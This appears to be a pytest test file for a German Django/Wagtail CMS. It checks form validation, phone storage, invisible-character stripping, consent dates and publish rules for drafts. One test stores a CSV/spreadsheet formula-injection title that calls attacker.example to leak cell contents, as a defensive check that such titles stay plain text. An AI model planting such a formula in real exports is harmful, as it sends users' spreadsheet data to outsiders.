"""What forms accept and how it is stored; forms without drafts; drafts that are incomplete."""

from collections.abc import Callable
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import SystemCheckError
from django.test import Client
from django.urls import reverse

from events.models import EventPage, EventReportPage
from headless.models import HeadlessPage, ImageFacts, Imprint
from mso_pages.models import (
    ContactConsent,
    FundingCallPage,
    FundingProgrammePage,
    MSOProfilePage,
    Municipality,
    NewsPage,
)
from tests.factories.funding import FundingProgrammePageFactory, NewsPageFactory
from tests.factories.images import ImageFactory
from tests.factories.msos import MSOProfilePageFactory
from tests.factories.partners import PartnerOrganisationFactory
from tests.factories.terms import MunicipalityFactory
from tests.factories.tree import SiteTree

from .posting import add_address, create, edit, errors, submit
from .reading import detail


def test_regional_key(admin: Client, site_tree: SiteTree) -> None:
    MunicipalityFactory(ags="05913000")
    partner = PartnerOrganisationFactory()

    assert errors(edit(admin, partner, {"territory": "05913000"}, action_publish="1")) == {}

    assert detail(partner)["territory"] == ["05913000"]


def test_municipality_key_has_eight_digits(admin: Client) -> None:
    def refused(ags: str) -> dict[str, list[str]]:
        return errors(submit(admin, add_address(Municipality), {"ags": ags, "name": "Dortmund"}))

    for ags in ("0591300", "059130000", "O5913000", "٠٥٩١٣٠٠٠"):
        assert list(refused(ags)) == ["ags"]
    [message] = refused("5913000")["ags"]
    assert "05913000" in message
    assert Municipality.objects.count() == 0


def test_national_format_for_drafts_is_an_error(settings: Any) -> None:
    settings.PHONENUMBER_DEFAULT_FORMAT = "NATIONAL"

    with pytest.raises(SystemCheckError, match=r"mso_headless\.E003"):
        call_command("check")


def test_phone_is_stored_for_machines_and_shown_for_people(
    admin: Client, site_tree: SiteTree
) -> None:
    profile = MSOProfilePageFactory()
    for typed, stored, shown in (
        ("0231 4960", "+492314960", "0231 4960"),
        ("0032 2 281 61 11", "+3222816111", "02 281 61 11"),
        ("0231/4960", "+492314960", "0231 4960"),
        ("+49 231 4961", "+492314961", "0231 4961"),
    ):
        assert errors(edit(admin, profile, {"phone": typed}, action_publish="1")) == {}

        contact = detail(profile)["contact"]
        assert (contact["phone"], contact["phone_display"]) == (stored, shown)


def test_invisible_characters_are_removed(admin: Client, site_tree: SiteTree) -> None:
    profile = MSOProfilePageFactory()
    typed = {
        "title": "Haus\u00adder\u200bKulturen\u00a0",
        "short_name": "\u2003HdK\x0c",
        "original_name": "می\u200cخواهم \u200fبيت",
        "original_name_language": "fa",
        "email": "info@verein.example\u00a0",
        "website": "https://verein.example/\u200b",
        "languages": "tr,\u00a0de\u200b",
        "self_description": "Erste Zeile\x0bzweite Zeile",
    }

    assert errors(edit(admin, profile, typed, action_publish="1")) == {}

    api = detail(profile)
    assert api["title"] == "HausderKulturen"
    assert api["short_name"] == "HdK"
    # Joiners and direction marks belong to Persian and Arabic spelling.
    assert api["original_name"]["text"] == "می\u200cخواهم \u200fبيت"
    assert api["contact"]["email"] == "info@verein.example"
    assert api["contact"]["website"] == "https://verein.example/"
    assert [language["tag"] for language in api["languages"]] == ["tr", "de"]
    assert api["self_description"] == "Erste Zeile\nzweite Zeile"


def test_invisible_character_inside_an_address_is_refused(
    admin: Client, site_tree: SiteTree
) -> None:
    typed = {"email": "in\u200bfo@verein.example"}

    refused = edit(admin, MSOProfilePageFactory(), typed)

    assert errors(refused) == {"email": ["Bitte gültige E-Mail-Adresse eingeben."]}


def test_formulas_are_text(admin: Client, site_tree: SiteTree) -> None:
    """A title that a spreadsheet would run is kept as it is; exports guard it."""
    title = '=HYPERLINK("https://attacker.example/?"&A1;"Klick")'
    page = NewsPageFactory()

    assert errors(edit(admin, page, {"title": title}, action_publish="1")) == {}

    assert detail(page)["title"] == title


# Forms without drafts ---------------------------------------------------------------


def test_consent_ends_after_it_begins(admin: Client, site_tree: SiteTree) -> None:
    profile = MSOProfilePageFactory()
    for field, message in (
        ("expires_on", "Die Einwilligung endet, bevor sie beginnt."),
        (
            "withdrawn_on",
            "Der Widerruf liegt vor dem Tag, an dem die Einwilligung erteilt wurde.",
        ),
    ):
        dates = {"given_on": "2020-01-02", field: "2020-01-01"}
        values = {"profile": profile, "person": "Amina Beispiel", **dates}

        refused = submit(admin, reverse("consents:add"), values)

        assert errors(refused) == {field: [message]}
        assert ContactConsent.objects.count() == 0


def test_consent_of_one_day(admin: Client, site_tree: SiteTree) -> None:
    dates = {"given_on": "2020-01-01", "expires_on": "2020-01-01", "withdrawn_on": "2020-01-01"}
    values = {"profile": MSOProfilePageFactory(), "person": "Amina Beispiel", **dates}

    assert errors(submit(admin, reverse("consents:add"), values)) == {}


def test_licence_at_a_web_address(admin: Client) -> None:
    values = {"image": ImageFactory(), "licence_url": "ftp://lizenz.example/"}

    refused = submit(admin, reverse("image_facts:add"), values)

    assert errors(refused) == {
        "licence_url": [
            "Bitte geben Sie eine Webadresse an, die mit http:// oder https:// beginnt."
        ]
    }
    assert ImageFacts.objects.count() == 0


def test_phone_of_the_imprint(admin: Client, site_tree: SiteTree) -> None:
    address = reverse("wagtailsettings:edit", args=["mso_headless", "imprint", site_tree.site.pk])

    assert list(errors(submit(admin, address, {"phone": "auf Anfrage"}))) == ["phone"]
    assert Imprint.objects.filter(phone__gt="").count() == 0


# Drafts ------------------------------------------------------------------------------

PARENTS: dict[type[HeadlessPage], Callable[[SiteTree], Any]] = {
    MSOProfilePage: lambda tree: tree.msos,
    FundingProgrammePage: lambda tree: tree.programmes,
    FundingCallPage: lambda tree: FundingProgrammePageFactory(),
    NewsPage: lambda tree: tree.news,
    EventPage: lambda tree: tree.events,
    EventReportPage: lambda tree: tree.reports,
}


@pytest.mark.parametrize("model", PARENTS, ids=lambda model: model.__name__)
def test_incomplete_draft_names_what_is_missing_only_when_published(
    admin: Client, site_tree: SiteTree, model: type[HeadlessPage]
) -> None:
    parent = PARENTS[model](site_tree)
    assert errors(create(admin, model, {"title": "Entwurf"}, parent=parent)) == {}
    draft = model.objects.latest("pk")
    assert errors(edit(admin, draft, {"title": "Noch ein Entwurf"})) == {}

    refused = edit(admin, draft, {}, action_publish="1")

    rules = set(draft.publish_rules())
    assert set(errors(refused)) == {*model.required_to_publish, *rules}
    draft.refresh_from_db()
    assert (draft.live, draft.draft_title) == (False, "Noch ein Entwurf")


def test_picture_needs_a_description_before_publishing(admin: Client, site_tree: SiteTree) -> None:
    """D36: the file name never stands in for it."""
    page = NewsPageFactory(live=False)
    with_picture = {"image": ImageFactory(title="IMG_2041.jpg")}

    assert errors(edit(admin, page, with_picture)) == {}
    assert errors(edit(admin, page, with_picture, action_publish="1")) == {
        "image_alt": [
            "Bitte beschreiben Sie vor der Veröffentlichung das Bild oder kennzeichnen Sie es "
            "als dekorativ."
        ]
    }

    decorative = {**with_picture, "image_decorative": True}
    assert errors(edit(admin, page, decorative, action_publish="1")) == {}
    assert detail(page)["image"]["alt"] == ""

    described = {"image_decorative": False, "image_alt": "Ein Fest"}
    assert errors(edit(admin, page, described, action_publish="1")) == {}
    assert detail(page)["image"]["alt"] == "Ein Fest"


def test_picture_in_a_text_needs_a_description(admin: Client, site_tree: SiteTree) -> None:
    page = NewsPageFactory(live=False)

    def text(**picture: Any) -> dict[str, Any]:
        image = {"image": ImageFactory(title="IMG_2041.jpg"), **picture}
        return {"body": [("picture", {"image": image, "caption": ""})]}

    refused = edit(admin, page, text(), action_publish="1")
    assert list(errors(refused)) == ["body-0-image-alt_text"]

    assert errors(edit(admin, page, text(decorative=True), action_publish="1")) == {}
    (block,) = detail(page)["body"]
    assert block["value"]["image"]["alt"] == ""

    assert errors(edit(admin, page, text(alt_text="Ein Fest"), action_publish="1")) == {}
    (block,) = detail(page)["body"]
    assert block["value"]["image"]["alt"] == "Ein Fest"
